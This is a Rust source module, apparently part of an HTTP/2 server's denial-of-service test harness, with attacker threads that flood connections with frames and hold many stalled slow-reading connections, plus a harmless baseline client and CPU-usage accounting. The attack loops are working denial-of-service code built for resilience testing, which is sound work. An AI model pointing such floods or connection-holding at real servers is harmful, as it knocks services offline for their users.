//! One thread that attacks, or that asks for pages with the same share of a core and harms nobody.

use std::io::{BufReader, ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use onehop_testkit::http2::{Frame, PREFACE, code, flag, kind, setting};
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use rustix::net::{AddressFamily, SocketType, connect, socket, sockopt};

use crate::Outcome;

use super::kinds::{Attack, Flood, Hold, Kind, STREAMS, get};

/// Rounds of a flood that are written at a time.
const BATCH: u32 = 64;
/// Bytes of the attacker's that its own kernel holds (twice that, socket(7)): what was sent is soon what came.
const SEND_BUFFER_BYTES: usize = 32 * 1024;
/// Streams after which the harmless client connects again, as clients do now and then.
const HARMLESS_STREAMS: u32 = 100_000;
/// How long one wait lasts that nothing ends.
const WAIT: Duration = Duration::from_millis(50);
/// The widest window that there is.
const WIDE: u32 = 0x7fff_ffff - 65_535;

/// What an attacker has done, or the harmless client.
#[derive(Debug, Default)]
pub(super) struct Done {
    /// Connections of it that began, and those that the server ended.
    pub(super) connections: u64,
    pub(super) ended: u64,
    /// Of those, the ones that were told ENHANCE_YOUR_CALM.
    pub(super) calmed: u64,
    /// Rounds of a flood until the end, or until its reason came, in all and on each connection that ended: with its seconds.
    pub(super) rounds: u64,
    pub(super) lives: Vec<(u32, f64)>,
    /// Share of a core.
    pub(super) share: f64,
}

/// Attacks until then.
pub(super) fn attack(attack: &Attack, address: SocketAddr, end: Instant) -> Outcome<Done> {
    let usage = Usage::start()?;
    let mut done = Done::default();
    match &attack.kind {
        Kind::Flood(flood) => {
            while Instant::now() < end {
                flood_once(flood, attack.path, address, end, &mut done)?;
            }
        }
        Kind::Hold(held) => hold(held, attack.path, address, end, &mut done)?,
    }
    Ok(Done { share: usage.share()?, ..done })
}

/// Floods one connection until the server ends it.
fn flood_once(flood: &Flood, path: &str, address: SocketAddr, end: Instant, done: &mut Done) -> Outcome {
    let mut stream = open(address, &[], None)?;
    sockopt::set_socket_send_buffer_size(&stream, SEND_BUFFER_BYTES)?;
    stream.set_nonblocking(true)?;
    done.connections += 1;
    let begun = Instant::now();
    let (mut rounds, mut out, mut written) = (0_u32, Vec::new(), 0);
    let (mut came, mut buffer) = (Vec::new(), vec![0; 64 * 1024]);
    let mut reason = None;
    let has_ended = loop {
        if written == out.len() {
            out = (rounds..rounds + BATCH).flat_map(|round| (flood.round)(path, round)).collect();
            (rounds, written) = (rounds + BATCH, 0);
        }
        let wrote = stream.write(&out[written..]);
        let read = stream.read(&mut buffer);
        match (&wrote, &read) {
            (_, Ok(0)) => break true,
            (Err(error), Err(other)) if is_wait(error) && is_wait(other) => wait(&stream)?,
            (Err(error), _) | (_, Err(error)) if !is_wait(error) => break true,
            _ => {}
        }
        written += wrote.unwrap_or(0);
        came.extend_from_slice(&buffer[..read.unwrap_or(0)]);
        reason = reason.or(goaway_in(&mut came).map(|code| (code, begun_rounds(rounds, written, out.len()))));
        if Instant::now() >= end {
            break false;
        }
    };
    let rounds = reason.map_or(begun_rounds(rounds, written, out.len()), |(_, rounds)| rounds);
    done.rounds += u64::from(rounds);
    done.calmed += u64::from(reason.is_some_and(|(code, _)| code == code::ENHANCE_YOUR_CALM));
    if has_ended {
        done.ended += 1;
        done.lives.push((rounds, begun.elapsed().as_secs_f64()));
    }
    Ok(())
}

/// Rounds of which something is written: those of the last batch by its bytes.
fn begun_rounds(composed: u32, written: usize, length: usize) -> u32 {
    let unwritten = (length - written) * BATCH as usize / length.max(1);
    composed - u32::try_from(unwritten).unwrap_or(BATCH).min(composed)
}

/// The code of a GOAWAY among these bytes; whole frames are taken out.
fn goaway_in(bytes: &mut Vec<u8>) -> Option<u32> {
    let mut rest = bytes.as_slice();
    let mut code = None;
    let mut next = rest;
    while let Ok(frame) = Frame::read(&mut next) {
        rest = next;
        if frame.kind == kind::GOAWAY {
            code = code.or(Some(frame.number_at(4)));
        }
    }
    let taken = bytes.len() - rest.len();
    bytes.drain(..taken);
    code
}

/// Holds connections, and makes further ones in their likeness.
fn hold(hold: &Hold, path: &str, address: SocketAddr, end: Instant, done: &mut Done) -> Outcome {
    let mut held = Vec::new();
    for _ in 0..hold.connections {
        held.push(stalled(hold, path, address)?);
        done.connections += 1;
    }
    let mut number = 0;
    while Instant::now() < end {
        done.connections += 1;
        done.ended += u64::from(stalled(hold, path, address).is_err());
        // A slow reader takes a little.
        if let Some(stream) = held.get_mut(number % hold.connections) {
            stream.set_nonblocking(true)?;
            let _ = stream.read(&mut [0; 16]);
        }
        number += 1;
    }
    for stream in &mut held {
        stream.set_nonblocking(true)?;
        let mut buffer = vec![0; 64 * 1024];
        let error = loop {
            match stream.read(&mut buffer) {
                Ok(0) => break None,
                Ok(_) => {}
                Err(error) => break Some(error),
            }
        };
        done.ended += u64::from(!error.is_some_and(|error| is_wait(&error)));
    }
    Ok(())
}

/// A connection whose responses have begun.
fn stalled(hold: &Hold, path: &str, address: SocketAddr) -> Outcome<TcpStream> {
    let settings = [(setting::INITIAL_WINDOW_SIZE, hold.window)];
    let mut stream = open(address, &settings, hold.receive_buffer)?;
    let mut requests = Frame::window_update(0, WIDE).bytes();
    requests.extend((0..STREAMS).flat_map(|number| get(path, number * 2 + 1)));
    stream.write_all(&requests)?;
    // All heads, or, where windows are open, the first of a body.
    let mut heads = 0;
    while heads < STREAMS {
        match Frame::read(&mut stream)? {
            frame if frame.kind == kind::DATA => break,
            frame if frame.kind == kind::HEADERS => heads += 1,
            frame if matches!(frame.kind, kind::RST_STREAM | kind::GOAWAY) => {
                return Err(format!("the server refuses: {frame:?}").into());
            }
            _ => {}
        }
    }
    Ok(stream)
}

/// Asks for whole pages until then, as fast as they come within this share of a core; what is left of it is used for nothing.
pub(super) fn harmless(path: &str, address: SocketAddr, end: Instant, share: f64) -> Outcome<Done> {
    let usage = Usage::start()?;
    let mut done = Done::default();
    while Instant::now() < end {
        let mut stream = open(address, &[(setting::INITIAL_WINDOW_SIZE, WIDE)], None)?;
        stream.write_all(&Frame::window_update(0, WIDE).bytes())?;
        let mut reader = BufReader::with_capacity(64 * 1024, stream.try_clone()?);
        done.connections += 1;
        let mut next = 0;
        while next < HARMLESS_STREAMS && Instant::now() < end {
            let batch: Vec<u8> =
                (next..next + STREAMS).flat_map(|number| get(path, number * 2 + 1)).collect();
            stream.write_all(&batch)?;
            let mut ended = 0;
            while ended < STREAMS {
                let frame = Frame::read(&mut reader)?;
                let is_of_stream = matches!(frame.kind, kind::HEADERS | kind::DATA);
                ended += u32::from(is_of_stream && frame.has(flag::END_STREAM));
                if matches!(frame.kind, kind::RST_STREAM | kind::GOAWAY) {
                    return Err(format!("the harmless client was refused: {frame:?}").into());
                }
            }
            next += STREAMS;
            done.rounds += u64::from(STREAMS);
            usage.keep_to(share, end)?;
        }
    }
    Ok(Done { share: usage.share()?, ..done })
}

/// A connection on which the client's preface is sent.
fn open(address: SocketAddr, settings: &[(u16, u32)], receive_buffer: Option<usize>) -> Outcome<TcpStream> {
    let descriptor = socket(AddressFamily::INET, SocketType::STREAM, None)?;
    if let Some(bytes) = receive_buffer {
        sockopt::set_socket_recv_buffer_size(&descriptor, bytes)?;
    }
    connect(&descriptor, &address)?;
    let mut stream = TcpStream::from(descriptor);
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    stream.set_write_timeout(Some(Duration::from_secs(10)))?;
    stream.write_all(&[PREFACE, &Frame::settings(settings).bytes()].concat())?;
    Ok(stream)
}

fn is_wait(error: &std::io::Error) -> bool {
    matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted)
}

fn wait(stream: &TcpStream) -> Outcome {
    let timeout = Timespec::try_from(WAIT)?;
    poll(&mut [PollFd::new(stream, PollFlags::IN | PollFlags::OUT)], Some(&timeout))?;
    Ok(())
}

/// CPU time of this thread.
struct Usage {
    begun: Instant,
    before: u64,
}

impl Usage {
    fn start() -> Outcome<Usage> {
        Ok(Usage { begun: Instant::now(), before: nanoseconds()? })
    }

    /// Waits where more than this share was used, and works for nobody where less was.
    fn keep_to(&self, share: f64, end: Instant) -> Outcome {
        while self.share()? > share && Instant::now() < end {
            std::thread::sleep(Duration::from_millis(1));
        }
        while self.share()? < share && Instant::now() < end {
            std::hint::spin_loop();
        }
        Ok(())
    }

    /// Share of a core since the start.
    fn share(&self) -> Outcome<f64> {
        let used = nanoseconds()?.saturating_sub(self.before);
        Ok(used as f64 / self.begun.elapsed().as_nanos().max(1) as f64)
    }
}

fn nanoseconds() -> Outcome<u64> {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat")?;
    let first = text.split_whitespace().next().and_then(|number| number.parse().ok());
    first.ok_or_else(|| "the kernel does not tell CPU times of threads".into())
}
